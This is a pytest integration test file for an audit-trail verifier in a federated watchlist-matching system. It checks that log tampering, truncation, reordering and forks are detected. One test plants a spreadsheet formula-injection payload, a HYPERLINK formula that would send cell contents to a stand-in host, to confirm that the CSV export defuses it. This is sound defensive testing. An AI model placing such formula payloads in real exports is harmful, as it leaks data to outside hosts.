"""The audit trail end to end: real broker, nodes, auditor; tampering detected.

Runs on SQLite and, when enabled, PostgreSQL (the broker's log and every
node's ledger on the backend under test).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text

from liaison.auditing.auditor import GrpcLogSource, load_auditor_config
from liaison.auditing.verify import AuditorState, Ledger, VerifyReport, verify
from liaison.cli.main import main
from liaison.core import audit_events
from liaison.core.query import Justification
from liaison.core.records import Record
from liaison.crypto.audit_entries import seal
from liaison.crypto.merkle import leaf_hash
from liaison.crypto.tree_head import from_json, load_audit_public_key, to_json
from liaison.node.codec import match_request_to_proto
from liaison.node.ledger.export import export_jsonl, read_export
from liaison.node.ledger.sql_store import SqlLedgerStore
from liaison.node.model import MatchRequest
from tests.conftest import DbUrlFactory
from tests.integration.harness import RunningFederation, start_federation

SHARED = Record(ref="S-1", full_name="Ahmed Ali", date_of_birth="1985-03-14",
                  emails=("a.ali@example.org",))  # fmt: skip


@dataclasses.dataclass
class Audited:
    federation: RunningFederation
    broker_url: str
    auditor: Path


@pytest.fixture
def audited(tmp_path: Path, make_db_url: DbUrlFactory) -> Iterator[Audited]:
    broker_url = make_db_url("broker")
    running = start_federation(
        tmp_path, {a: make_db_url(a) for a in ("FR", "NL")}, agencies=("FR", "NL"),
        broker_database=broker_url,
    )  # fmt: skip
    try:
        running.import_rows("NL", "watchlist", [SHARED])
        for case in ("CASE-1", "CASE-2"):
            request = MatchRequest(
                Justification(case, "counter-terrorism", "art. 1", "inv"), (SHARED,)
            )
            running.local("FR").Match(match_request_to_proto(request), timeout=30)
        running.wait_anchored()
        yield Audited(running, broker_url, running.auditor_config())
    finally:
        running.stop()


def ledgers(federation: RunningFederation) -> list[Ledger]:
    result = []
    for agency, config in federation.node_configs.items():
        store = SqlLedgerStore(config.database)
        try:
            result.append(Ledger(agency, tuple(store.all()), agency))
        finally:
            store.close()
    return result


def run_verify(audited: Audited, *, with_ledgers: bool = True) -> VerifyReport:
    config = load_auditor_config(audited.auditor)
    state = AuditorState.load(config.state)
    source = GrpcLogSource(config)
    try:
        report = verify(
            source,
            load_audit_public_key(config.broker_audit_key),
            state,
            ledgers=ledgers(audited.federation) if with_ledgers else (),
        )
    finally:
        source.close()
    if report.ok:
        state.save(config.state)
    return report


def sql(url: str, statement: str) -> None:
    engine = create_engine(url)
    try:
        with engine.begin() as connection:
            connection.execute(text(statement))
    finally:
        engine.dispose()


def problems(report: VerifyReport) -> list[str]:
    return [f"{f.where}: {f.problem}" for f in report.findings]


def test_an_honest_log_verifies_with_the_ledgers(audited: Audited) -> None:
    report = run_verify(audited)
    assert problems(report) == []
    assert report.entries >= 8  # 2 admissions, then 3 entries per query
    assert report.ledgers_checked == 2
    assert run_verify(audited).ok  # and again, against the head seen first


def test_a_modified_body_is_named(audited: Audited) -> None:
    assert run_verify(audited).ok
    engine = create_engine(audited.broker_url)
    with engine.begin() as connection:
        rows = connection.execute(text("SELECT idx, body FROM audit_entries ORDER BY idx")).all()
        # The first query entry (ledger checkpoints interleave with queries).
        index, body = next((i, b) for i, b in rows if b and b"counter-terrorism" in bytes(b))
        changed = bytes(body).replace(b"counter-terrorism", b"counter-terrorizm")
        statement = text("UPDATE audit_entries SET body = :b WHERE idx = :i")
        connection.execute(statement, {"b": changed, "i": index})
    engine.dispose()
    report = run_verify(audited)
    assert any(p.startswith(f"entry {index}:") for p in problems(report)), problems(report)


def test_a_rewritten_entry_is_named_even_with_hashes_recomputed(audited: Audited) -> None:
    assert run_verify(audited).ok
    # A forger with database access rewrites entry 3 completely and
    # consistently (new body, salt, header, leaf hash), then restarts the
    # broker so that it signs the new tree.
    sealed = seal(
        audit_events.policy_denial(
            time=datetime.now(UTC), query_id="", requesting_agency="FR", reason="forged"
        )
    )
    engine = create_engine(audited.broker_url)
    with engine.begin() as connection:
        connection.execute(
            text("UPDATE audit_entries SET header=:h, leaf_hash=:l, salt=:s, body=:b WHERE idx=3"),
            {"h": sealed.header, "l": leaf_hash(sealed.header), "s": sealed.salt, "b": sealed.body},
        )
    engine.dispose()
    audited.federation.restart_broker()
    report = run_verify(audited, with_ledgers=False)
    assert "entry 3: changed since the last verification" in problems(report)
    assert any("fork or rewrite" in p or "consistency" in p for p in problems(report))


def test_a_truncated_log_is_detected(audited: Audited) -> None:
    assert run_verify(audited).ok
    sql(audited.broker_url, "DELETE FROM audit_entries WHERE idx >= 5")
    audited.federation.restart_broker()
    report = run_verify(audited, with_ledgers=False)
    assert any("missing: the log shrank" in p for p in problems(report)), problems(report)


def test_an_entry_deleted_in_the_middle_is_named(audited: Audited) -> None:
    assert run_verify(audited).ok
    sql(audited.broker_url, "DELETE FROM audit_entries WHERE idx = 2")
    audited.federation.restart_broker()
    named = problems(run_verify(audited, with_ledgers=False))
    assert "entry 2: changed since the last verification" in named, named


def test_reordered_entries_are_named(audited: Audited) -> None:
    assert run_verify(audited).ok
    sql(audited.broker_url, "UPDATE audit_entries SET idx = -1 WHERE idx = 3")
    sql(audited.broker_url, "UPDATE audit_entries SET idx = 3 WHERE idx = 4")
    sql(audited.broker_url, "UPDATE audit_entries SET idx = 4 WHERE idx = -1")
    audited.federation.restart_broker()
    report = run_verify(audited, with_ledgers=False)
    named = problems(report)
    assert "entry 3: changed since the last verification" in named
    assert "entry 4: changed since the last verification" in named


def test_truncated_and_rebuilt_log_is_detected_by_a_node_receipt(audited: Audited) -> None:
    # A fresh auditor (no history) would see a well-formed log; the nodes'
    # receipts and ledgers still expose the rebuilt one.
    sql(audited.broker_url, "DELETE FROM audit_entries")
    audited.federation.restart_broker()  # re-admits participants into an empty log
    report = run_verify(audited)
    named = " | ".join(problems(report))
    assert not report.ok
    assert "missing from the broker's log" in named


def test_ledger_export_round_trips_through_the_verifier(audited: Audited, tmp_path: Path) -> None:
    config = audited.federation.node_configs["NL"]
    store = SqlLedgerStore(config.database)
    try:
        path = tmp_path / "NL.jsonl"
        with path.open("w") as handle:
            export_jsonl("NL", store.all(), handle)
    finally:
        store.close()
    with path.open() as handle:
        agency, entries = read_export(handle)
    assert agency == "NL" and len(entries) == 2
    assert all(e.receipt is not None for e in entries)


def test_a_fork_is_detected_once_an_auditor_sees_the_other_head(audited: Audited) -> None:
    assert run_verify(audited).ok  # auditor A sees the honest tree
    head_a = AuditorState.load(load_auditor_config(audited.auditor).state).heads[-1]
    # The operator rewrites history, and shows the new tree to auditor B only.
    sql(audited.broker_url, "DELETE FROM audit_entries WHERE idx >= 4")
    audited.federation.restart_broker()
    auditor_b = dataclasses.replace(audited, auditor=audited.federation.auditor_config("b"))
    assert run_verify(auditor_b, with_ledgers=False).ok  # B alone cannot tell
    head_b = AuditorState.load(load_auditor_config(auditor_b.auditor).state).heads[-1]
    assert head_b.size != head_a.size or head_b.root != head_a.root
    # Exchanging heads (liaison audit head / --peer-head) exposes the fork.
    config_b = load_auditor_config(auditor_b.auditor)
    source = GrpcLogSource(config_b)
    try:
        report = verify(
            source,
            load_audit_public_key(config_b.broker_audit_key),
            AuditorState.load(config_b.state),
            peer_heads=[from_json(to_json(head_a))],
        )
    finally:
        source.close()
    assert any("fork" in p for p in problems(report)), problems(report)


def test_auditor_commands_exit_codes_and_outputs(
    audited: Audited, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = str(audited.auditor)
    exports = []
    for agency, node in audited.federation.node_configs.items():
        path = tmp_path / f"{agency}.jsonl"
        assert (
            main(["node", "ledger", "export", "--config", str(node.path), "--out", str(path)]) == 0
        )
        exports += ["--ledger", str(path)]
    capsys.readouterr()
    assert main(["audit", "verify", "--config", config, *exports]) == 0
    assert "VERIFIED" in capsys.readouterr().out

    assert main(["audit", "head", "--config", config]) == 0
    head = json.loads(capsys.readouterr().out)
    assert set(head) == {"size", "root", "timestamp_ms", "signature"}

    assert main(["audit", "log", "--config", config, "--case", "CASE-2", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["kind"] for r in rows] == ["query_submitted"]
    assert rows[0]["purpose"] == "counter-terrorism" and rows[0]["targets"] == ["NL:*"]

    assert main(["audit", "log", "--config", config, "--agency", "NL", "--csv"]) == 0
    assert capsys.readouterr().out.startswith("index,kind,time,erased")

    # Each ok answer's key epoch, in the broker's log and in the partner's ledger.
    assert main(["audit", "log", "--config", config, "--agency", "NL", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    answered = [r for r in rows if r["kind"] == "partner_answered" and r["status"] == "ok"]
    assert answered and [r["key_epoch"] for r in answered] == [0] * len(answered)
    _, served = read_export((tmp_path / "NL.jsonl").read_text().splitlines())
    assert [e.outcome for e in served] == ["watchlist:ok:epoch 0"] * len(answered)

    today = datetime.now(UTC).date().isoformat()
    report = tmp_path / "report.html"
    assert main(["audit", "report", "--config", config, "--since", today, "--until", today,
                 "--format", "html", "--out", str(report), *exports]) == 0  # fmt: skip
    html = report.read_text()
    assert "<svg" in html and "http://" not in html and "https://" not in html

    sql(audited.broker_url, "DELETE FROM audit_entries WHERE idx = 3")
    audited.federation.restart_broker()
    capsys.readouterr()
    assert main(["audit", "verify", "--config", config, "--json"]) == 1
    verdict = json.loads(capsys.readouterr().out)
    assert verdict["ok"] is False
    assert {"where": "entry 3", "problem": "changed since the last verification"} in verdict[
        "findings"
    ]


def test_audit_log_csv_defuses_spreadsheet_formulas(
    audited: Audited, capsys: pytest.CaptureFixture[str]
) -> None:
    # Finding 9: a member's case id becomes a cell of the auditor's CSV.
    hostile = MatchRequest(
        # The purpose must be one the federation accepts: case and basis carry the attack.
        Justification('=HYPERLINK("http://x.example/?"&A1)', "counter-terrorism", "+basis", "@inv"),
        (SHARED,),
    )
    audited.federation.local("FR").Match(match_request_to_proto(hostile), timeout=30)
    capsys.readouterr()
    config = str(audited.auditor)
    assert main(["audit", "log", "--config", config, "--agency", "FR", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    (submitted,) = [r for r in rows if r["case_id"].startswith("'=")]
    assert submitted["case_id"] == "'" + hostile.justification.case_id
    assert submitted["legal_basis"] == "'+basis"
    # The investigator is the authenticated user, whatever the request claims.
    assert submitted["investigator_id"] == "investigator@fr"
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"]
